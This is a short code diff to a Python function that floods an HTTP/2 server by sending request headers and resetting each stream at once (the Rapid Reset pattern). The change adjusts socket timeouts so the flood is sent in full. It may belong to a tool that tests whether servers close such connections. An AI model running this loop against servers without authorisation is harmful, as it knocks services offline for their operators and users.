@@ -194,7 +194,13 @@ def rapidreset(address, seconds):
                 conn.send_headers(stream, request_headers(address))
                 conn.reset_stream(stream)
                 resets += 1
+            # Sent in full, as fast as the server reads: a full send buffer
+            # is the server keeping up, not the connection closing.
+            sock.settimeout(30)
             sock.sendall(conn.data_to_send())
+            sock.settimeout(0.0001)
+        except socket.timeout:
+            break  # the server stopped reading: not closed
         except (ConnectionError, OSError, h2.exceptions.ProtocolError,
                 h2.exceptions.NoAvailableStreamIDError):
             closed = True
